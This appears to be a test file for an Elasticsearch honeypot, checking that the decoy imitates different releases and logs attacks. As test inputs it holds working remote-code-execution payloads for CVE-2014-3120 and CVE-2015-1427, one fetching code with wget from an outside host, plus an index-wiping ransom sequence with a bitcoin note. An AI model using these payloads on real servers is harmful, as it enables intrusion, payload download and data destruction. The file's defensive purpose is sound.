import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { holdsForAnyBytes, octetsOf, personaWith, talk } from '../../../test/support/talk.ts';
import type { Persona } from '../../core/persona.ts';
import { parseJson, textAt, valueAt } from '../../wire/json-value.ts';
import { recognisePlanted } from '../../wire/planted-credential.ts';
import { elasticsearch } from './elasticsearch.ts';

const run = promisify(execFile);
const curl = async (...words: string[]): Promise<string> =>
  (await run('curl', ['-s', '-m', '10', ...words])).stdout;
const node = (version: string): Persona =>
  personaWith({ elasticsearch: { product: 'Elasticsearch', version, details: { cluster: 'shop' } } });
const send = (method: string, path: string, body = ''): string =>
  `${method} ${path} HTTP/1.1\r\nHost: a\r\n${body === '' ? '' : `Content-Length: ${body.length}\r\n`}\r\n${body}`;

const mvel = {
  size: 1,
  query: { match_all: {} },
  script_fields: {
    result: {
      script:
        'import java.util.*;\nimport java.io.*;\nString str = "";BufferedReader br = new BufferedReader(new InputStreamReader(Runtime.getRuntime().exec("wget http://198.51.100.7/es").getInputStream()));str',
    },
  },
};
const groovy = {
  size: 1,
  script_fields: {
    out: {
      lang: 'groovy',
      script: 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("id").getText()',
    },
  },
};

describe('the elasticsearch decoy', () => {
  needTools(['curl'])('speaks to curl as its release does', async () => {
    await using served = await serveDecoy(elasticsearch, node('7.17.9'));
    const base = `http://127.0.0.1:${served.port}`;
    expect(await curl('-i', base)).toMatch(
      /^HTTP\/1\.1 200 OK\r\nX-elastic-product: Elasticsearch\r\ncontent-type: application\/json; charset=UTF-8\r\ncontent-length: \d+\r\n\r\n\{\n {2}"name" : /,
    );
    expect(await curl(`${base}/_cat/indices?v`)).toMatch(
      /^health status index +uuid +pri rep docs\.count docs\.deleted store\.size pri\.store\.size\nyellow open +app-config /,
    );
    const found = parseJson(await curl(`${base}/customers/_search?size=2`));
    expect(valueAt(found, 'hits', 'total', 'relation')).toBe('eq');
    expect(textAt(found, 'hits', 'hits', 0, '_source', 'email')).toContain('@');
    expect(await curl(`${base}/none/_search`)).toContain(
      '"type":"index_not_found_exception","reason":"no such index [none]","resource.type":"index_or_alias","resource.id":"none","index_uuid":"_na_","index":"none"},"status":404}',
    );
    expect(await curl(`${base}/_cluster/health?pretty`)).toContain('"cluster_name" : "shop",\n');
    expect(recognisePlanted(node('7.17.9'), await curl(`${base}/app-config/_search`))).toHaveLength(2);
    expect(served.errors).toEqual([]);
  });

  needTools(['nmap'])(
    'is taken by nmap for its release',
    async () => {
      await using served = await serveDecoy(elasticsearch, node('7.10.2'));
      const { stdout } = await run('nmap', ['-Pn', '-sT', '-sV', '-p', String(served.port), '127.0.0.1']);
      expect(stdout).toContain('Elasticsearch REST API 7.10.2');
      expect(served.errors).toEqual([]);
    },
    120_000,
  );

  it('lets itself be emptied and keeps the note that asks for money', () => {
    const note = JSON.stringify({
      message:
        'All your data is a backed up. You must pay 0.01 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh',
    });
    const { text, facts, outputs } = talk(elasticsearch, node('6.8.23'), [
      octetsOf(
        send('DELETE', '/_all') +
          send('PUT', '/read_me/_doc/1', note) +
          send('GET', '/_cat/indices') +
          send('GET', '/read_me/_search'),
      ),
    ]);
    expect(text).toContain('{"acknowledged":true}');
    expect(text).toContain('"result":"created"');
    expect(text).toMatch(/yellow open read_me /);
    expect(facts.flatMap((fact) => (fact.kind === 'exploit' ? [fact.name] : []))).toEqual([
      'index-deletion',
      'ransom-note',
    ]);
    expect(outputs).toContainEqual(
      expect.objectContaining({ do: 'capture', how: 'ransom-note', name: 'read_me' }),
    );
  });

  it.each([
    ['1.1.1', mvel, 'CVE-2014-3120', 'http://198.51.100.7/es'],
    ['1.4.2', groovy, 'CVE-2015-1427', 'uid='],
  ] as const)('version %s runs the command of a script', (version, body, cve, expected) => {
    const { text, facts } = talk(elasticsearch, node(version), [
      octetsOf(send('POST', '/_search?pretty', JSON.stringify(body))),
    ]);
    expect(facts[0]).toMatchObject({ kind: 'exploit', class: 'rce', cves: [cve] });
    const urls = facts.flatMap((fact) => (fact.kind === 'command' ? (fact.urls ?? []) : []));
    expect(`${text} ${urls.join(' ')}`).toContain(expected);
    expect(text).toContain('"fields" : {');
  });

  it('writes the errors of version 1 as version 1 does, and runs no script in version 7', () => {
    expect(talk(elasticsearch, node('1.4.2'), [octetsOf(send('GET', '/none'))]).text).toContain(
      '{"error":"IndexMissingException[[none] missing]","status":404}',
    );
    const { text, facts } = talk(elasticsearch, node('7.10.2'), [
      octetsOf(send('POST', '/_search', JSON.stringify(groovy))),
    ]);
    expect(text).not.toContain('uid=');
    expect(facts.map((fact) => fact.kind)).toEqual(['exploit', 'request', 'command']);
  });

  it('takes documents in bulk', () => {
    const body = '{"index":{"_index":"a","_id":"1"}}\n{"x":1}\n{"delete":{"_index":"a","_id":"2"}}\n';
    const { text } = talk(elasticsearch, node('7.10.2'), [
      octetsOf(send('POST', '/_bulk', body) + send('GET', '/a/_doc/1')),
    ]);
    expect(text).toContain('"errors":false,"items":[{"index":');
    expect(text).toContain('"found":true,"_source":{"x":1}}');
  });

  it('gives the same for any split of any bytes', () => {
    for (const version of ['1.1.1', '7.17.9']) {
      holdsForAnyBytes(elasticsearch, () => node(version), [
        octetsOf(send('GET', '/')),
        octetsOf(send('GET', '/_cat/indices?v')),
        octetsOf(send('POST', '/_search', JSON.stringify(groovy))),
        octetsOf(send('PUT', '/a/_doc/1', '{"a":1}')),
        octetsOf(send('POST', '/_bulk', '{"index":{"_index":"a"}}\n{"x":1}\n')),
        octetsOf(send('GET', '/*/_mapping?pretty')),
        octetsOf(send('DELETE', '/cust*')),
      ]);
    }
  });
});
